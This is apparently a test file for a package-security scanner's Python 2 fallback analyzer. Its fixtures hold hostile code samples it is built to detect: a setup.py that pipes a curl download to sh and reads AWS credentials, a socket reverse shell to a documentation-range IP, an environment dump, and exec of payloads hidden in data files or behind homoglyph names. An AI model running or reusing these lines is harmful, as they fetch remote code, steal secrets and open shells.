"""The pattern fallback for Python `ast` cannot parse, and the files a source executes."""

from __future__ import annotations

from pycustoms.analyzers.code.context import ExecContext
from pycustoms.analyzers.code.py2_fallback import exec_file_targets, fallback_python
from pycustoms.types import Capability, Severity

MODULE = ExecContext.MODULE
INSTALL = ExecContext.INSTALL


def _rules(report_findings: object) -> set[str]:
    return {f.rule for f in report_findings}  # type: ignore[attr-defined]


PY2_SETUP = """\
import os, base64, urllib2
from distutils.core import setup
print "installing"
exec base64.b64decode("cHJpbnQoJ2luZXJ0Jyk=")
os.system("curl -s http://198.51.100.7/x.sh | sh")
data = urllib2.urlopen("http://198.51.100.7/c").read()
open(os.path.expanduser("~/.aws/credentials")).read()
setup(name="demo", version="1.0")
"""


def test_fallback_catches_python2_setup_payload() -> None:
    report = fallback_python("setup.py", PY2_SETUP, INSTALL)
    rules = {f.rule: f for f in report.findings}
    assert rules["code/exec-decoded-payload"].severity is Severity.CRITICAL
    assert rules["code/exec-decoded-payload"].line == 4
    assert rules["code/download-command"].severity is Severity.CRITICAL
    assert rules["code/install-time-network"].severity is Severity.HIGH
    assert "code/credential-file-access" in rules
    assert {Capability.NETWORK, Capability.PROCESS, Capability.CREDENTIAL_READ} <= (
        report.capabilities
    )


def test_fallback_is_quiet_on_plain_python2_code() -> None:
    source = 'import os\nprint "hello"\nos.environ.get("HOME")\ndef f(x):\n    print x\n'
    report = fallback_python("pkg/old.py", source, MODULE)
    assert not report.findings
    assert report.capabilities == {Capability.ENV_READ}


def test_fallback_env_dump_and_reverse_shell() -> None:
    source = (
        "import socket, os, pty, json\n"
        "print json.dumps(dict(os.environ))\n"
        "s = socket.socket(); s.connect(('192.0.2.1', 4444))\n"
        "os.dup2(s.fileno(), 0)\n"
        "pty.spawn('/bin/sh')\n"
    )
    rules = _rules(fallback_python("pkg/x.py", source, MODULE).findings)
    assert {"code/environment-dump", "code/reverse-shell"} <= rules


def test_exec_file_targets() -> None:
    source = "exec(open('pkg/data.txt').read())\nexecfile('version.py')\n"
    assert list(exec_file_targets(source)) == [(1, "pkg/data.txt"), (2, "version.py")]
    report = fallback_python("setup.py", "print 'x'\n" + source, INSTALL)
    assert "code/exec-file-content" in _rules(report.findings)


def test_data_file_read_by_pathlib_or_resources_then_executed() -> None:
    same_line = 'exec(Path(__file__).with_name("LICENSE.txt").read_text().split("#")[1])\n'
    assert [t for _, t in exec_file_targets(same_line)] == ["LICENSE.txt"]
    later = (
        'img = files(__name__).joinpath("icon.png").read_bytes()\n'
        "x = 1\n"
        "exec(zlib.decompress(img[10:]))\n"
    )
    assert "icon.png" in [t for _, t in exec_file_targets(later)]
    unrelated = 'cfg = Path("conf.json").read_text()\nexec(code)\n'
    assert "conf.json" not in [t for _, t in exec_file_targets(unrelated)]


def test_homoglyph_identifier_not_greek_science_or_comments() -> None:
    spoof = "print 1\n\u0435x\u0435c = getattr(__builtins__, 'exec')\n"  # Cyrillic е
    assert "code/unicode-identifier" in _rules(fallback_python("m.py", spoof, MODULE).findings)
    science = "\u0394t = 0.1\n\u03c3_x = 2 * \u0394t\n"  # Δt, σ_x
    assert not fallback_python("m.py", science, MODULE).findings
    hello = "\u043f\u0440\u0438\u0432\u0435\u0442"
    russian = f"# {hello} world\nmsg = '{hello}'\n"
    assert not fallback_python("m.py", russian, MODULE).findings
